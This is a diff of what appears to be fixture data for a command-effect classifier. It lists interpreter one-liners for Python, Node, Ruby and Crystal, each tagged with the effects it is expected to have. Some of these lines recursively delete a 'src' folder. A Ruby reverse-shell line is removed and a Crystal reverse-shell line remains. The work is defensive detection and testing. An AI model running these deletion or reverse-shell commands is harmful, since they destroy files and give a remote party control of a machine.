@@ -50,7 +50,6 @@ const INTERPRETERS: readonly Interpreter[] = [
     looks: words('-V --version -h --help -VV'),
     module: '-m',
     examples: [
-      { command: 'python3 --version', effects: [] },
       { command: 'python3 -c "print(1)"', effects: [] },
       { command: `python3 -c "import shutil; shutil.rmtree('src')"`, effects: ['fs.delete'] },
       { command: "python3 - <<'E'\nimport os\nos.remove('a')\nE", effects: ['fs.delete'] },
@@ -81,7 +80,6 @@ const INTERPRETERS: readonly Interpreter[] = [
       return watched === undefined ? null : runScript(call, 'javascript', watched, 'tsx watch');
     },
     examples: [
-      { command: 'node --version', effects: [] },
       { command: 'node --test', effects: [] },
       { command: 'node -e "console.log(1)"', effects: [] },
       { command: `node -e "require('fs').rmSync('src',{recursive:true})"`, effects: ['fs.delete'] },
@@ -115,14 +113,9 @@ const INTERPRETERS: readonly Interpreter[] = [
     inPlace: '-i',
     examples: [
       { command: 'ruby -v', effects: [] },
-      { command: `ruby -e 'puts 1'`, effects: [] },
       { command: `ruby -rfileutils -e 'FileUtils.rm_rf("src")'`, effects: ['fs.delete'] },
       { command: "ruby -e 'system(%q(rm -rf src))'", effects: ['fs.delete'] },
       { command: `ruby -rsocket -e 's=TCPSocket.new("h",80);puts s.read'`, effects: [] },
-      {
-        command: `ruby -rsocket -e 's=TCPSocket.new("10.0.0.1",1);loop{IO.popen(s.gets){|o|s.print o.read}}'`,
-        effects: ['net.reverse-shell'],
-      },
     ],
   },
   {
@@ -271,7 +264,6 @@ const foreign: Program = {
   },
   examples: [
     { command: `Rscript -e 'print(1)'`, effects: [] },
-    { command: `crystal eval 'puts 1'`, effects: [] },
     {
       command: `crystal eval 'require "socket";c=Socket.tcp(Socket::Family::INET);loop{Process.new(c.receive)}'`,
       effects: ['net.reverse-shell'],
